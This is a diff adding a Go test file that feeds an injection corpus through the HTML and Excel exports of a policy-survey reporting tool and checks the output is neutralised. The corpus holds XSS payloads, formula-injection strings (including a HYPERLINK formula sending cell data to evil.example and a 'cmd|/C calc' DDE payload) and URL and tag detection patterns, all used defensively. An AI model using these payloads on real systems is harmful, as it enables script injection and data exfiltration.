@@ -1,0 +1,264 @@
+package reports
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/json"
+	"html"
+	"io"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/gongping/gongping/assets/echarts"
+	"github.com/gongping/gongping/data"
+	"github.com/gongping/gongping/data/check"
+	"github.com/gongping/gongping/data/privacy"
+	"github.com/gongping/gongping/data/score"
+	"github.com/xuri/excelize/v2"
+)
+
+const IDRemovedText = privacy.IDRemoved
+
+// long is the 40,000-character answer of the corpus; it starts with "=" to be neutralised as well.
+var long = "=" + strings.Repeat("长", 39998) + "尾"
+
+// corpus is hostile text pushed through every text field of a report.
+var corpus = []string{
+	`</script><script>alert(1)</script>`,
+	`__f__function(){alert(1)}__f__`,
+	`"'><svg onload=alert(1)>`,
+	`javascript:alert(1)`,
+	`=HYPERLINK("http://evil.example/?"&A1,"点我")`,
+	`＝1+1`,
+	" \t+cmd|' /C calc'!A0",
+	"@SUM(1,1)",
+	"－1",
+	`<img src=x onerror=alert(1)><a href="//evil.example/x.js">x</a>`,
+	`{{.}} ${alert(1)} {a|b} <!-- <base href="http://evil.example/">`,
+	"\x00\x07控\x1b制\u2028字符\ufffe",
+	long,
+}
+
+func fptr(v float64) *float64 { return &v }
+
+// textInput builds an Input whose every text field is s (with a field tag so fields differ).
+func textInput(s string) Input {
+	sc := score.NewScheme()
+	sc.Likert.Labels = map[string]float64{s: 100, "一般": 50}
+	sc.Likert.Missing = []string{s}
+	res := &score.Result{Policy: 1, Round: s,
+		Respondents: score.Respondents{Imported: 10, Valid: 9, Excluded: score.ExcludedCount{Speeders: 1}},
+		Composite:   score.Composite{Score: fptr(81.25), Grade: &s},
+		Method:      score.Method{Scheme: sc, Sources: score.DefaultSources, IPAMeans: &score.IPAMeans{Importance: 0.5, Performance: 70}},
+		Warnings:    []string{s}, Sources: score.SourceCounts{Responses: 10, AssessmentRows: 2, OfficerRows: 1}}
+	for i, k := range score.DimensionKeys {
+		res.Dimensions = append(res.Dimensions, score.Dimension{Key: k, Name: s, Weight: 1.0 / 3, Score: fptr(70 + float64(i)), Survey: fptr(71),
+			N: 9, SatisfactionRate: fptr(0.5), Alpha: fptr(0.81), CI95: &[2]float64{60, 80},
+			Indicators: []score.Indicator{{Name: s, Questions: []string{s}, Weight: 1, Score: fptr(55), N: 9, SatisfactionRate: fptr(0.4), CI95: &[2]float64{50, 60}}}})
+		res.IPA = append(res.IPA, score.IPAPoint{Indicator: s, Dimension: k, Importance: 0.3 + 0.2*float64(i), Performance: 55 + 10*float64(i), Quadrant: score.QuadrantFix, N: 9})
+	}
+	res.Problems = []score.Problem{{Item: s, Source: score.SourceSurvey, Incidence: fptr(0.4), Count: 4}, {Item: s, Source: score.SourceAssessment, Count: 1}}
+	res.Directions = []score.Direction{{Item: s, Source: score.SourceSurvey, Share: fptr(0.3), Count: 3}}
+	ok := false
+	return Input{
+		Policy:       data.Policy{ID: 1, Title: s, DocNo: s, Dept: s, Category: s, Issued: "2026-04-15"},
+		Consultation: &data.Consultation{Start: "2026-02-12", End: "2026-03-13", Channel: s},
+		Round:        s, Result: res,
+		Checks:    &check.Result{Checks: []check.Item{{Rule: "x", Name: s, OK: &ok, Detail: s}}},
+		Survey:    &data.SurveyData{Questions: []data.Question{{Key: "Q1", Text: s, Type: data.QOpenText}}, Responses: []data.Response{{ID: 1, Answers: []string{s}}, {ID: 2, Answers: []string{s}}}},
+		Adoptions: []Adoption{{Representative: s, Size: 5, Concentrated: true, Clauses: s, Decision: s, Reason: s}},
+		Revisions: []Revision{{Clause: s, Before: s, After: s, Reason: s, Answers: s, Date: "2026-11-20", Diff: []DiffOp{{"=", s}, {"-", s}, {"+", s}}}},
+		Generated: time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC),
+		RawData:   true,
+	}
+}
+
+var (
+	attrURL   = regexp.MustCompile(`(?i)\b(href|src|srcset|action|formaction|poster|data|xlink:href)\s*=\s*["']?\s*(?:[a-z][a-z0-9+.-]*:|//)`)
+	anyURL    = regexp.MustCompile(`(?i)(https?|ftp|wss?)://`)
+	dataOpt   = regexp.MustCompile(`data-option="([^"]*)"`)
+	tagOpen   = regexp.MustCompile(`(?i)<\s*(script|svg|img|iframe|object|embed|link|base|meta|a|form|style|input|video|audio)\b`)
+	allowTags = map[string]int{"script": 2, "meta": 5, "style": 1, "a": -1} // -1: any number (in-page links)
+)
+
+// echartsURLs are the only URL-like strings inside the vendored library: XML namespace names and
+// licence links, which no browser fetches.
+var echartsURLs = map[string]bool{
+	"http://www.w3.org/2000/svg": true, "http://www.w3.org/1999/xlink": true, "http://www.w3.org/XML/1998/namespace": true,
+	"http://www.w3.org/2000/xmlns/": true, "http://www.apache.org/licenses/LICENSE-2.0": true,
+	"https://github.com/ecomfe/zrender/blob/master/LICENSE.txt": true,
+}
+
+// checkHTMLSafe asserts what DESIGN.md "Publication safety" asks of the page.
+func checkHTMLSafe(t *testing.T, page string) {
+	t.Helper()
+	if strings.Count(page, echarts.MinJS) != 1 {
+		t.Fatal("ECharts is not inlined exactly once")
+	}
+	for _, u := range regexp.MustCompile(`(?i)(https?|ftp)://[^"'\s)\\]+`).FindAllString(echarts.MinJS, -1) {
+		if !echartsURLs[u] {
+			t.Errorf("vendored ECharts holds an unexpected URL %q", u)
+		}
+	}
+	rest := strings.Replace(page, echarts.MinJS, "", 1)
+	if m := anyURL.FindString(rest); m != "" {
+		i := strings.Index(rest, m)
+		t.Errorf("external URL in the page: %q", rest[max(0, i-60):min(len(rest), i+60)])
+	}
+	if m := attrURL.FindString(rest); m != "" {
+		t.Errorf("attribute pointing outside the page: %q", m)
+	}
+	for _, bad := range []string{"url(", "@import", "javascript:"} {
+		if strings.Contains(strings.ToLower(rest), bad) {
+			t.Errorf("page contains %q", bad)
+		}
+	}
+	tags := map[string]int{}
+	for _, m := range tagOpen.FindAllStringSubmatch(rest, -1) {
+		tags[strings.ToLower(m[1])]++
+	}
+	for tag, n := range tags {
+		if want := allowTags[tag]; want != n && want >= 0 {
+			t.Errorf("page has %d <%s> tags, want %d", n, tag, allowTags[tag])
+		}
+	}
+	if n := strings.Count(strings.ToLower(rest), "</script"); n != 2 {
+		t.Errorf("page closes a script %d times, want 2", n)
+	}
+	if strings.Count(rest, "function(){alert(1)}") != strings.Count(rest, "__f__function(){alert(1)}__f__") {
+		t.Error("a __f__ marker was stripped into a function")
+	}
+	for _, m := range dataOpt.FindAllStringSubmatch(rest, -1) {
+		var v map[string]any
+		if err := json.Unmarshal([]byte(html.UnescapeString(m[1])), &v); err != nil {
+			t.Errorf("chart options are not JSON: %v", err)
+		}
+		if strings.ContainsAny(m[1], "<>") {
+			t.Error("chart options hold a raw < or >")
+		}
+	}
+}
+
+// checkXLSXSafe asserts the workbook rules and returns every row's cells joined by tabs.
+func checkXLSXSafe(t *testing.T, path string) []string {
+	t.Helper()
+	zr, err := zip.OpenReader(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range zr.File {
+		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
+			continue
+		}
+		rc, _ := f.Open()
+		b, _ := io.ReadAll(rc)
+		rc.Close()
+		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
+			t.Errorf("%s holds a formula", f.Name)
+		}
+	}
+	zr.Close()
+	x, err := excelize.OpenFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer x.Close()
+	var out []string
+	for _, sh := range x.GetSheetList() {
+		rows, err := x.GetRows(sh)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for ri, row := range rows {
+			for ci, v := range row {
+				if dangerous(v) {
+					t.Errorf("%s row %d col %d starts like a formula: %.40q", sh, ri+1, ci+1, v)
+				}
+				if len([]rune(v)) > maxCellUnits {
+					t.Errorf("%s row %d col %d is over-long", sh, ri+1, ci+1)
+				}
+			}
+			out = append(out, strings.Join(row, "\t"))
+		}
+	}
+	return out
+}
+
+func TestInjectionCorpus(t *testing.T) {
+	for _, s := range corpus {
+		r := Assemble(textInput(s))
+		var hb, xb bytes.Buffer
+		if err := WriteHTML(&hb, r); err != nil {
+			t.Fatal(err)
+		}
+		checkHTMLSafe(t, hb.String())
+		if err := WriteXLSX(&xb, r); err != nil {
+			t.Fatal(err)
+		}
+		path := t.TempDir() + "/r.xlsx"
+		if err := writeFile(path, func(w io.Writer) error { _, err := w.Write(xb.Bytes()); return err }); err != nil {
+			t.Fatal(err)
+		}
+		rows := checkXLSXSafe(t, path)
+		if s == long {
+			if !hasWhole(rows, "'"+long) {
+				t.Error("40,000-character text was cut in the workbook")
+			}
+			if !strings.Contains(hb.String(), strings.Repeat("长", 39998)+"尾") {
+				t.Error("40,000-character text was cut in the page")
+			}
+		}
+		// The text reaches the chart options intact (as data, shown as text).
+		if s == corpus[1] && !strings.Contains(hb.String(), "__f__function(){alert(1)}__f__") {
+			t.Error("marker text lost")
+		}
+	}
+}
+
+func TestNeutralise(t *testing.T) {
+	for in, want := range map[string]string{
+		"=1+1": "'=1+1", "  =1": "'  =1", "\t+1": "'\t+1", "-1": "'-1", "@x": "'@x", "＝1": "'＝1", "　＋1": "'　＋1",
+		"﹦1": "'﹦1", "正常文本": "正常文本", "1=1": "1=1", "": "",
+	} {
+		if got := neutralise(in); got != want {
+			t.Errorf("neutralise(%q) = %q, want %q", in, got, want)
+		}
+	}
+	// Split pieces never start like a formula and join back to the neutralised text.
+	s := strings.Repeat("a", pieceUnits-1) + "=" + strings.Repeat("=", 300) + strings.Repeat("😀", 20000)
+	ps := cellPieces(s)
+	if len(ps) < 2 {
+		t.Fatalf("%d pieces", len(ps))
+	}
+	for i, p := range ps {
+		if u := len([]rune(p)) + strings.Count(p, "😀"); u > maxCellUnits {
+			t.Errorf("piece %d has %d UTF-16 units", i, u)
+		}
+		if dangerous(p) {
+			t.Errorf("piece %d starts like a formula", i)
+		}
+	}
+	if j := strings.Join(ps, ""); strings.ReplaceAll(j, "'", "") != strings.ReplaceAll(s, "'", "") {
+		t.Error("pieces do not join back to the text")
+	}
+}
+
+// hasWhole reports whether some row holds text in one cell or split across continuation cells
+// (the pieces are the row's cells containing the text's second character, in order).
+func hasWhole(rows []string, text string) bool {
+	mark := string([]rune(text)[2])
+	for _, row := range rows {
+		var b strings.Builder
+		for _, c := range strings.Split(row, "\t") {
+			if strings.Contains(c, mark) {
+				b.WriteString(c)
+			}
+		}
+		if strings.Contains(b.String(), text) {
+			return true
+		}
+	}
+	return false
+}
